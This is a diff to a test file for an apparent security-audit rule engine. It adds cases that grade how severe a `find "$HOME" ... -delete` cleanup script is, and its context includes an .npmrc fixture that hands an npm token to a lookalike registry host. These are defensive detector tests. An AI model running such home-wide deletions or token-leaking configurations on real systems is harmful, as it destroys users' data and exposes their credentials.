@@ -238,6 +238,14 @@ describe('engine with the real rules', () => {
     expect(severityOf('RCE-08', { path: 'audit.php', content: "<?php\n$rules = @file_get_contents('https://rules.audit-tools.net/latest.json');\n$cfg = json_decode($rules, true);\n" })).toBeUndefined();
   });
 
+  it('counts only name or path patterns as narrowing a find that deletes across the home folder', () => {
+    const clean = (tests: string) => ({ path: 'scripts/clean.sh', content: `#!/bin/bash\nfind "$HOME" ${tests} -delete\n` });
+    expect(severityOf('DES-01', clean('-path "$HOME/.cache/keep" -prune -o -type f -mtime +0 -print'))).toBe('critical');
+    expect(severityOf('DES-01', clean('-type f -size +100M'))).toBe('critical');
+    expect(severityOf('DES-01', clean('-name "*.pyc"'))).toBe('high');
+    expect(severityOf('DES-01', clean('-path "*/node_modules/.cache/*" -type f'))).toBe('high');
+  });
+
   it('makes an npm token handed to a host that borrows the registry name critical', () => {
     expect(severityOf('SUP-04', { path: '.npmrc', content: 'registry=https://registry.npmjs-mirror.example/\n//registry.npmjs-mirror.example/:_authToken=${NPM_TOKEN}\n' })).toBe('critical');
     expect(severityOf('SUP-04', { path: '.npmrc', content: 'registry=https://registry.npmjs-mirror.example/\n' })).toBe('high');
